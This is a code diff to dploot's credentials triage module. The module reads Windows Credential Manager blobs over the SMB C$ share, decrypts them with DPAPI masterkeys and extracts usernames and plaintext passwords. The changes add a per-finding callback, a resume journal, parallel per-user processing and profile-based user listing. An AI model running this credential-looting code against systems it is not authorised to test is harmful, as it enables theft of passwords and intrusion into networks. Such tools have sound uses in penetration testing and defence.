@@ -1,18 +1,21 @@
 import logging
 import ntpath
-from typing import Any, List
+from typing import Any, Callable, List
 from dataclasses import dataclass
 
 from impacket.dpapi import CREDENTIAL_BLOB
 
 from dploot.lib.dpapi import decrypt_credential, find_masterkey_for_credential_blob
+from dploot.lib.journal import get_journal
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument
 from dploot.lib.target import Target
 from dploot.lib.utils import is_credfile
 from dploot.triage.masterkeys import Masterkey
 
 @dataclass
 class Credential:
+    __slots__ = ('winuser', 'credblob', 'target', 'description', 'unknown', 'username', 'password')
     winuser: str
     credblob: "CREDENTIAL_BLOB | Any"
     target: str
@@ -32,8 +35,8 @@ class CredentialsTriage:
 
     false_positive = ['.','..', 'desktop.ini','Public','Default','Default User','All Users']
     user_credentials_generic_path = [
-        'Users\\%s\\AppData\\Local\\Microsoft\\Credentials',
-        'Users\\%s\\AppData\\Roaming\\Microsoft\\Credentials',
+        '%s\\AppData\\Local\\Microsoft\\Credentials',
+        '%s\\AppData\\Roaming\\Microsoft\\Credentials',
     ]
 
     system_credentials_generic_path = [
@@ -46,14 +49,23 @@ class CredentialsTriage:
     ]
     share = 'C$'
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey]) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], per_finding_callback: Callable[[Credential], None] = None) -> None:
         self.target = target
         self.conn = conn
         
         self._users = None
         self.looted_files = dict()
         self.masterkeys = masterkeys
+        self.per_finding_callback = per_finding_callback
+        self.journal = get_journal(target)
 
+    def found(self, credential: Credential) -> Credential:
+        ''' Hands credential to per_finding_callback as soon as it is decrypted, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(credential)
+        return credential
+
+    @instrument()
     def triage_system_credentials(self) -> List[Credential]:
         credentials = list()
         credential_dirs = self.conn.listDirs(self.share, self.system_credentials_generic_path)
@@ -62,33 +74,31 @@ class CredentialsTriage:
                 credentials += self.triage_credentials_folder(credential_folder_path=system_credential_path,credential_folder=system_credential_dir, winuser='SYSTEM')
         return credentials
 
+    @instrument()
     def triage_credentials(self) -> List[Credential]:
         credentials = list()
-        for user in self.users:
-            try:
-                credentials += self.triage_credentials_for_user(user)
-            except Exception as e:
-                if logging.getLogger().level == logging.DEBUG:
-                    import traceback
-                    traceback.print_exc()
-                    logging.debug(str(e))
-                pass
+        for user_credentials in self.conn.map(self.triage_credentials_for_user, self.users):
+            credentials += user_credentials
         return credentials
 
+    @instrument()
     def triage_credentials_for_user(self,user: str) -> List[Credential]:
         credentials = list()
-        credential_dirs = self.conn.listDirs(self.share, [elem % user for elem in self.user_credentials_generic_path])
+        credential_dirs = self.conn.listDirs(self.share, [elem % self.conn.user_profile_path(user) for elem in self.user_credentials_generic_path])
         for user_credential_path,user_credential_dir in credential_dirs.items():
             if user_credential_dir is not None:
                 credentials += self.triage_credentials_folder(credential_folder_path=user_credential_path,credential_folder=user_credential_dir, winuser=user)
         return credentials
 
+    @instrument()
     def triage_credentials_folder(self, credential_folder_path,credential_folder, winuser: str) -> List[Credential]:
         credentials = list()
         for d in credential_folder:
             if is_credfile(d.get_longname()):
                 cred_filename = d.get_longname()
                 cred_filename_path = ntpath.join(credential_folder_path,cred_filename)
+                if self.journal.is_done('credentials', winuser, cred_filename_path):
+                    continue
                 logging.debug("Found Credential Manager blob: \\\\%s\\%s\\%s" %  (self.target.address,self.share,cred_filename_path))
                 # read credman blob 
                 credmanblob_bytes = self.conn.readFile(self.share,cred_filename_path)
@@ -97,9 +107,12 @@ class CredentialsTriage:
                     masterkey = find_masterkey_for_credential_blob(credmanblob_bytes, self.masterkeys)
                     if masterkey is not None:
                         cred = decrypt_credential(credmanblob_bytes,masterkey)
+                    else:
+                        cred = None
+                    if cred is not None:
                         try:
                             if cred['Unknown3'].decode('utf-16le') != '':
-                                credentials.append(Credential(
+                                credentials.append(self.found(Credential(
                                     winuser=winuser,
                                     credblob=cred,
                                     target=cred['Target'].decode('utf-16le'),
@@ -107,10 +120,10 @@ class CredentialsTriage:
                                     unknown=cred['Unknown'].decode('utf-16le'),
                                     username=cred['Username'].decode('utf-16le'),
                                     password=cred['Unknown3'].decode('utf-16le')
-                                    ))
+                                    )))
                         except UnicodeDecodeError:
                             if cred['Unknown3'] != '':
-                                credentials.append(Credential(
+                                credentials.append(self.found(Credential(
                                     winuser=winuser,
                                     credblob=cred,
                                     target=f"HEX[{cred['Target'].hex()}]",
@@ -118,7 +131,9 @@ class CredentialsTriage:
                                     unknown=f"HEX[{cred['Unknown'].hex()}]",
                                     username=f"HEX[{cred['Username'].hex()}]",
                                     password=f"HEX[{cred['Unknown3'].hex()}]",
-                                    ))
+                                    )))
+                        # only once decrypted: a later -resume run with the right secrets triages it again otherwise
+                        self.journal.done('credentials', winuser, cred_filename_path)
                     else:
                         logging.debug("Could not decrypt...")
         return credentials
@@ -127,15 +142,7 @@ class CredentialsTriage:
     def users(self) -> List[str]:
         if self._users is not None:
             return self._users
-        
-        users = list()
 
-        users_dir_path = 'Users\\*'
-        directories = self.conn.listPath(shareName=self.share, path=ntpath.normpath(users_dir_path))
-        for d in directories:
-            if d.get_longname() not in self.false_positive and d.is_directory() > 0:
-                users.append(d.get_longname())
-    
-        self._users = users
+        self._users = [profile.username for profile in self.conn.list_user_profiles()]
 
         return self._users
\ No newline at end of file